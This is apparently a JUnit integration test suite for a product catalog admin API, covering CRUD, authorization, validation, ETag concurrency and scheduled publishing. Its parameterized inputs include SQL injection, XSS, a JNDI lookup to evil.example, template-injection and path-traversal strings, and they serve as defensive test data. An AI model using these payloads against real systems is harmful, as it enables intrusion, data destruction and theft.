package dev.mercato.catalog.product;

import static dev.mercato.testsupport.http.ProblemAssertions.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import dev.mercato.catalog.AdminApiTest;
import dev.mercato.testsupport.http.HttpJson;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

class ProductAdminApiIT extends AdminApiTest {

    @Autowired
    JdbcClient jdbc;

    @Test
    void createsAProductThatTheCatalogShowsInEveryLanguage() {
        ProductBody body = ProductBody.valid();

        var created = asAdmin("POST", "/v1/products", body.json());

        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        JsonNode product = created.json();
        String id = product.get("id").asString();
        assertThat(created.header("Location")).contains("/v1/products/" + id);
        assertThat(created.header("ETag")).contains("\"1\"");
        assertThat(created.header("Cache-Control")).contains("no-store");
        assertThat(product.get("sku").asString()).isEqualTo(body.sku());
        assertThat(product.get("category").asString()).isEqualTo("books");
        assertThat(product.get("names").get("it").asString()).isEqualTo("Libro di prova " + body.sku());
        assertThat(product.get("price").get("amount").asString()).isEqualTo("19.90");
        assertThat(product.get("version").asInt()).isEqualTo(1);
        assertThat(Instant.parse(product.get("publishAt").asString())).isBeforeOrEqualTo(Instant.now());

        var italian = http.get("/v1/products/" + id, "Accept-Language", "it");
        assertThat(italian.status()).isEqualTo(200);
        assertThat(italian.json().get("name").asString()).isEqualTo("Libro di prova " + body.sku());
        assertThat(italian.json().get("description").asString())
                .as("falls back to English")
                .isEqualTo("A book for tests.\nSecond line.");
        assertThat(search(body.sku())).containsExactly(id);
    }

    @Test
    void replacesAProductWhenIfMatchHoldsTheCurrentETag() {
        ProductBody body = ProductBody.valid();
        var created = asAdmin("POST", "/v1/products", body.json());
        String id = created.json().get("id").asString();
        String publicEtag = http.get("/v1/products/" + id).header("ETag").orElseThrow();

        var replaced = asAdmin(
                "PUT",
                "/v1/products/" + id,
                body.with("names", Map.of("en", "Renamed book"))
                        .price("5.00", "EUR")
                        .json(),
                "If-Match",
                created.header("ETag").orElseThrow());

        assertThat(replaced.status()).as(replaced.toString()).isEqualTo(200);
        assertThat(replaced.header("ETag")).contains("\"2\"");
        assertThat(replaced.json().get("names").has("it"))
                .as("a replacement, not a merge")
                .isFalse();
        var read = http.get("/v1/products/" + id, "Accept-Language", "it");
        assertThat(read.json().get("name").asString()).isEqualTo("Renamed book");
        assertThat(read.json().get("price").get("amount").asString()).isEqualTo("5.00");
        assertThat(http.get("/v1/products/" + id, "If-None-Match", publicEtag).status())
                .as("the public ETag changes with the version")
                .isEqualTo(200);
    }

    @Test
    void acceptsTheETagOfAPublicReadAsIfMatch() {
        String id = create(ProductBody.valid()).get("id").asString();
        String publicEtag = http.get("/v1/products/" + id, "Accept-Language", "it")
                .header("ETag")
                .orElseThrow();

        var deleted = asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", publicEtag);

        assertThat(deleted.status()).as(deleted.toString()).isEqualTo(204);
    }

    @Test
    void deletesAProduct() {
        String id = create(ProductBody.valid()).get("id").asString();

        var deleted = asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", "\"1\"");

        assertThat(deleted.status()).as(deleted.toString()).isEqualTo(204);
        assertProblem(http.get("/v1/products/" + id), 404, "not-found");
        assertProblem(asAdmin("GET", "/v1/products/" + id + "/admin", null), 404, "not-found");
        assertProblem(asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", "\"1\""), 404, "not-found");
    }

    @Test
    void refusesCallersWithoutAValidToken() {
        String id = create(ProductBody.valid()).get("id").asString();
        List<HttpJson.Response> responses = new ArrayList<>();
        for (String[] credentials : List.of(
                new String[0],
                new String[] {"Authorization", "Bearer " + IDENTITY.rogueToken(ADMIN)},
                new String[] {"Authorization", "Bearer not-a-token"})) {
            responses.add(send("POST", "/v1/products", ProductBody.valid().json(), credentials));
            responses.add(send(
                    "PUT", "/v1/products/" + id, ProductBody.valid().json(), with(credentials, "If-Match", "\"1\"")));
            responses.add(send("DELETE", "/v1/products/" + id, null, with(credentials, "If-Match", "\"1\"")));
            responses.add(send("GET", "/v1/products/" + id + "/admin", null, credentials));
        }

        assertThat(responses).allSatisfy(response -> {
            assertProblem(response, 401, "unauthorized");
            assertThat(response.header("WWW-Authenticate")).contains("Bearer");
        });
        assertThat(http.get("/v1/products/" + id).status()).as("still there").isEqualTo(200);
        assertProblem(http.get("/v1/products/" + id + "%2Fadmin"), 404, "not-found");
    }

    @Test
    void refusesCustomersWhateverTheySend() {
        String id = create(ProductBody.valid()).get("id").asString();
        String[] customer = IDENTITY.bearer(CUSTOMER);

        List<HttpJson.Response> responses = List.of(
                send("POST", "/v1/products", ProductBody.valid().json(), customer),
                send("POST", "/v1/products", "{\"sku\": 1", customer),
                send("PUT", "/v1/products/" + id, ProductBody.valid().json(), with(customer, "If-Match", "\"1\"")),
                send("DELETE", "/v1/products/" + id, null, with(customer, "If-Match", "\"1\"")),
                send("GET", "/v1/products/" + id + "/admin", null, customer));

        assertThat(responses).allSatisfy(response -> assertProblem(response, 403, "forbidden"));
        assertThat(asAdmin("GET", "/v1/products/" + id + "/admin", null)
                        .json()
                        .get("version")
                        .asInt())
                .isEqualTo(1);
    }

    @Test
    void namesEveryInvalidFieldAtOnce() {
        var body = new ProductBody()
                .with("sku", "lower case")
                .with("names", Map.of("de", "Buch"))
                .with("descriptions", Map.of("en", " "))
                .price("0", "EURO")
                .with("imageUrl", "javascript:alert(1)");

        var response = asAdmin("POST", "/v1/products", body.json());

        JsonNode problem = assertProblem(response, 400, "validation");
        assertThat(fields(problem))
                .contains("sku", "category", "names", "descriptions", "price.amount", "price.currency", "imageUrl");
    }

    static Stream<Arguments> invalidProducts() {
        Map<String, String> nullName = new HashMap<>();
        nullName.put("en", null);
        return Stream.of(
                Arguments.of("sku", ProductBody.valid().with("sku", "ab")),
                Arguments.of("sku", ProductBody.valid().with("sku", "A".repeat(41))),
                Arguments.of("sku", ProductBody.valid().with("sku", "MC--1")),
                Arguments.of("sku", ProductBody.valid().with("sku", "MC-1'; DROP TABLE product; --")),
                Arguments.of("sku", ProductBody.valid().without("sku")),
                Arguments.of("category", ProductBody.valid().with("category", "no-such-category")),
                Arguments.of("category", ProductBody.valid().with("category", "books' OR '1'='1")),
                Arguments.of("names", ProductBody.valid().without("names")),
                Arguments.of("names", ProductBody.valid().with("names", Map.of("it", "Solo italiano"))),
                Arguments.of("names", ProductBody.valid().with("names", Map.of("en", "Book", "xx", "?"))),
                Arguments.of("names", ProductBody.valid().with("names", nullName)),
                Arguments.of("names", ProductBody.valid().with("names", Map.of("en", "x".repeat(201)))),
                Arguments.of("names", ProductBody.valid().with("names", Map.of("en", "Tab\there"))),
                // NUL is refused while the body is read: rejectsTextThatIsNotValidUnicode
                Arguments.of("descriptions", ProductBody.valid().with("descriptions", Map.of("en", "y".repeat(5001)))),
                Arguments.of("price", ProductBody.valid().without("price")),
                Arguments.of("price.amount", ProductBody.valid().price("-1.00", "EUR")),
                Arguments.of("price.amount", ProductBody.valid().price("0.00", "EUR")),
                Arguments.of("price.amount", ProductBody.valid().price("1.234", "EUR")),
                Arguments.of("price.amount", ProductBody.valid().price("12345678901", "EUR")),
                Arguments.of("price.amount", ProductBody.valid().price("NaN", "EUR")),
                Arguments.of("price.currency", ProductBody.valid().price("1.00", "eur")),
                Arguments.of("price.currency", ProductBody.valid().price("1.00", "ZZZ")),
                Arguments.of("imageUrl", ProductBody.valid().with("imageUrl", "ftp://files/x.jpg")),
                Arguments.of("imageUrl", ProductBody.valid().with("imageUrl", "https://x/" + "a".repeat(2048))),
                Arguments.of("publishAt", ProductBody.valid().with("publishAt", "+100000-01-01T00:00:00Z")));
    }

    @ParameterizedTest(name = "[{index}] 400 naming {0}")
    @MethodSource("invalidProducts")
    void rejectsAnInvalidProductNamingTheField(String field, ProductBody body) {
        var response = asAdmin("POST", "/v1/products", body.json());

        JsonNode problem = assertProblem(response, 400, "validation");
        assertThat(fields(problem)).containsOnly(field);
        if (body.sku() != null) {
            assertThat(count("select count(*) from product where sku = :sku", body.sku()))
                    .isZero();
        }
    }

    @Test
    void rejectsTextThatIsNotValidUnicode() {
        String sku = ProductBody.newSku();
        for (String name : List.of("lone \\ud800 surrogate", "reversed \\udc00\\ud800 pair", "NUL \\u0000")) {
            String json = "{\"sku\":\"" + sku + "\",\"category\":\"books\",\"names\":{\"en\":\"" + name
                    + "\"},\"price\":{\"amount\":\"1.00\",\"currency\":\"EUR\"}}";

            var response = asAdmin("POST", "/v1/products", json);

            // refused while the body is read (libs/web StrictJson), before the catalog's own check of names
            assertThat(fields(assertProblem(response, 400, "malformed-body"))).containsOnly("names.en");
        }
    }

    @Test
    void rejectsBodiesThatAreNotAProduct() {
        assertProblem(asAdmin("POST", "/v1/products", "{\"sku\": "), 400, "malformed-body");
        assertProblem(asAdmin("POST", "/v1/products", "[1, 2]"), 400, "malformed-body");
        assertProblem(
                asAdmin(
                        "POST",
                        "/v1/products",
                        ProductBody.valid().with("price", "12.50").json()),
                400,
                "malformed-body");
        assertProblem(
                asAdmin(
                        "POST",
                        "/v1/products",
                        ProductBody.valid().with("publishAt", "tomorrow").json()),
                400,
                "malformed-body");
        assertProblem(
                http.send(
                        "POST",
                        "/v1/products",
                        "text/plain",
                        "sku=X".getBytes(StandardCharsets.UTF_8),
                        IDENTITY.bearer(ADMIN)),
                415,
                "unsupported-media-type");
    }

    @Test
    void refusesADuplicateSkuWithAConflict() {
        ProductBody first = ProductBody.valid();
        create(first);
        String other = create(ProductBody.valid()).get("id").asString();

        var duplicate = asAdmin(
                "POST",
                "/v1/products",
                ProductBody.valid(first.sku(), "laptops").json());
        var seeded = asAdmin(
                "POST", "/v1/products", ProductBody.valid("MC-000001", "books").json());
        var renamed = asAdmin(
                "PUT",
                "/v1/products/" + other,
                ProductBody.valid(first.sku(), "books").json(),
                "If-Match",
                "\"1\"");

        assertThat(assertProblem(duplicate, 409, "conflict").get("detail").asString())
                .contains(first.sku());
        assertProblem(seeded, 409, "conflict");
        assertProblem(renamed, 409, "conflict");
        assertThat(count("select count(*) from product where sku = :sku", first.sku()))
                .isEqualTo(1);
        assertThat(asAdmin("GET", "/v1/products/" + other + "/admin", null)
                        .json()
                        .get("version")
                        .asInt())
                .as("the refused update left the product as it was")
                .isEqualTo(1);
    }

    @Test
    void requiresIfMatchToReplaceOrDelete() {
        ProductBody body = ProductBody.valid();
        String id = create(body).get("id").asString();

        assertProblem(asAdmin("PUT", "/v1/products/" + id, body.json()), 428, "precondition-required");
        assertProblem(asAdmin("DELETE", "/v1/products/" + id, null), 428, "precondition-required");
        JsonNode malformed =
                assertProblem(asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", "1"), 400, "validation");
        assertThat(fields(malformed)).containsExactly("If-Match");
        assertThat(http.get("/v1/products/" + id).status()).isEqualTo(200);
    }

    @Test
    void refusesAStaleETagAndKeepsTheNewerChange() {
        ProductBody body = ProductBody.valid();
        String id = create(body).get("id").asString();
        assertThat(asAdmin(
                                "PUT",
                                "/v1/products/" + id,
                                body.with("names", Map.of("en", "First change")).json(),
                                "If-Match",
                                "\"1\"")
                        .status())
                .isEqualTo(200);

        var stalePut = asAdmin(
                "PUT",
                "/v1/products/" + id,
                body.with("names", Map.of("en", "Lost update")).json(),
                "If-Match",
                "\"1\"");
        var staleDelete = asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", "\"1\"");
        var weak = asAdmin("DELETE", "/v1/products/" + id, null, "If-Match", "W/\"2\"");

        assertProblem(stalePut, 412, "precondition-failed");
        assertProblem(staleDelete, 412, "precondition-failed");
        assertProblem(weak, 412, "precondition-failed");
        JsonNode current = asAdmin("GET", "/v1/products/" + id + "/admin", null).json();
        assertThat(current.get("names").get("en").asString()).isEqualTo("First change");
        assertThat(current.get("version").asInt()).isEqualTo(2);
    }

    @Test
    void letsExactlyOneOfTwoConcurrentUpdatesWithTheSameETagWin() throws Exception {
        int writers = 8;
        ProductBody body = ProductBody.valid();
        String id = create(body).get("id").asString();
        var start = new CountDownLatch(1);
        List<Callable<Integer>> updates = new ArrayList<>();
        for (int i = 0; i < writers; i++) {
            Map<String, Object> change = ProductBody.valid(body.sku(), "books")
                    .with("names", Map.of("en", "Writer " + i))
                    .json();
            updates.add(() -> {
                start.await();
                return asAdmin("PUT", "/v1/products/" + id, change, "If-Match", "\"1\"")
                        .status();
            });
        }

        List<Integer> statuses = new ArrayList<>();
        try (var pool = Executors.newFixedThreadPool(writers)) {
            List<Future<Integer>> results = updates.stream().map(pool::submit).toList();
            start.countDown();
            for (Future<Integer> result : results) {
                statuses.add(result.get());
            }
        }

        assertThat(statuses).containsOnly(200, 412).filteredOn(s -> s == 200).hasSize(1);
        JsonNode current = asAdmin("GET", "/v1/products/" + id + "/admin", null).json();
        assertThat(current.get("version").asInt()).isEqualTo(2);
    }

    @Test
    void hidesAProductScheduledForLaterFromEveryPublicRead() {
        String slug = "scheduled-" + ProductBody.newSku().toLowerCase().substring(2);
        createCategory(slug);
        Instant later = Instant.now().plus(2, ChronoUnit.DAYS).truncatedTo(ChronoUnit.SECONDS);
        ProductBody body = ProductBody.valid(ProductBody.newSku(), slug).with("publishAt", later.toString());

        JsonNode created = create(body);
        String id = created.get("id").asString();

        assertThat(Instant.parse(created.get("publishAt").asString())).isEqualTo(later);
        assertProblem(http.get("/v1/products/" + id), 404, "not-found");
        assertThat(http.get("/v1/products?category=" + slug).json().get("items"))
                .isEmpty();
        assertThat(search(body.sku())).isEmpty();
        assertThat(categoryCount(slug)).isZero();
        assertThat(asAdmin("GET", "/v1/products/" + id + "/admin", null).status())
                .as("the admin still sees it")
                .isEqualTo(200);

        var published = asAdmin(
                "PUT",
                "/v1/products/" + id,
                body.with("publishAt", Instant.now().minusSeconds(1).toString()).json(),
                "If-Match",
                "\"1\"");

        assertThat(published.status()).as(published.toString()).isEqualTo(200);
        assertThat(http.get("/v1/products/" + id).status()).isEqualTo(200);
        assertThat(http.get("/v1/products?category=" + slug).json().get("items"))
                .hasSize(1);
        assertThat(search(body.sku())).containsExactly(id);
        assertThat(categoryCount(slug)).isEqualTo(1);
    }

    @Test
    void keepsThePublishingTimeOfAVisibleProductWhenAReplacementOmitsIt() {
        ProductBody body = ProductBody.valid();
        JsonNode created = create(body);

        JsonNode replaced = asAdmin(
                        "PUT", "/v1/products/" + created.get("id").asString(), body.json(), "If-Match", "\"1\"")
                .json();

        assertThat(replaced.get("publishAt").asString())
                .isEqualTo(created.get("publishAt").asString());
    }

    static Stream<String> hostileTexts() {
        return Stream.of(
                "'; DROP TABLE product; --",
                "Robert'); DELETE FROM category WHERE ('1'='1",
                "<script>alert('x')</script>",
                "\" onmouseover=\"alert(1)",
                "${jndi:ldap://evil.example/a} #{7*7} {{7*7}} {0}",
                "../../etc/passwd %00 %s %n",
                "\\u0000 \\\\ \\\" $$ $1 ?",
                "مرحبا \u202Eevil\u202C 👩‍👩‍👧‍👦 e\u0301 \u200B\uFEFF \u2028 𝕏",
                "' OR 1=1; SELECT pg_sleep(10); --");
    }

    @ParameterizedTest(name = "[{index}] stored verbatim")
    @MethodSource("hostileTexts")
    void storesHostileTextVerbatimInEveryTextField(String text) {
        int productsBefore = count("select count(*) from product", null);
        ProductBody body = ProductBody.valid()
                .with("names", Map.of("en", text, "it", text + " (it)"))
                .with("descriptions", Map.of("en", text + "\n" + text, "it", text))
                .with("imageUrl", "https://img.mercato.dev/" + text.replaceAll("\\s", "+"));

        var created = asAdmin("POST", "/v1/products", body.json());

        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        String id = created.json().get("id").asString();
        JsonNode stored = asAdmin("GET", "/v1/products/" + id + "/admin", null).json();
        assertThat(stored.get("names").get("en").asString()).isEqualTo(text);
        assertThat(stored.get("names").get("it").asString()).isEqualTo(text + " (it)");
        assertThat(stored.get("descriptions").get("en").asString()).isEqualTo(text + "\n" + text);
        assertThat(stored.get("imageUrl").asString()).isEqualTo(body.json().get("imageUrl"));
        JsonNode shown = http.get("/v1/products/" + id, "Accept-Language", "it").json();
        assertThat(shown.get("name").asString()).isEqualTo(text + " (it)");
        assertThat(shown.get("description").asString()).isEqualTo(text);
        assertThat(http.get("/v1/products?limit=5&q=" + encode(text)).status()).isEqualTo(200);
        assertThat(count("select count(*) from product", null)).isEqualTo(productsBefore + 1);
        assertThat(count("select count(*) from category", null)).isGreaterThanOrEqualTo(24);
    }

    private JsonNode create(ProductBody body) {
        var response = asAdmin("POST", "/v1/products", body.json());
        assertThat(response.status()).as(response.toString()).isEqualTo(201);
        return response.json();
    }

    private void createCategory(String slug) {
        var response = asAdmin("POST", "/v1/categories", Map.of("slug", slug, "names", Map.of("en", slug)));
        assertThat(response.status()).as(response.toString()).isEqualTo(201);
    }

    private long categoryCount(String slug) {
        for (JsonNode category : http.get("/v1/categories").json().get("items")) {
            if (category.get("slug").asString().equals(slug)) {
                return category.get("productCount").asLong();
            }
        }
        throw new AssertionError("no category " + slug);
    }

    private List<String> search(String text) {
        var response = http.get("/v1/products?limit=100&q=" + encode(text));
        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        List<String> ids = new ArrayList<>();
        response.json().get("items").forEach(item -> ids.add(item.get("id").asString()));
        return ids;
    }

    private int count(String sql, String sku) {
        var statement = jdbc.sql(sql);
        if (sku != null) {
            statement = statement.param("sku", sku);
        }
        return statement.query(Integer.class).single();
    }

    private static List<String> fields(JsonNode problem) {
        List<String> fields = new ArrayList<>();
        problem.get("errors").forEach(error -> fields.add(error.get("field").asString()));
        return fields;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
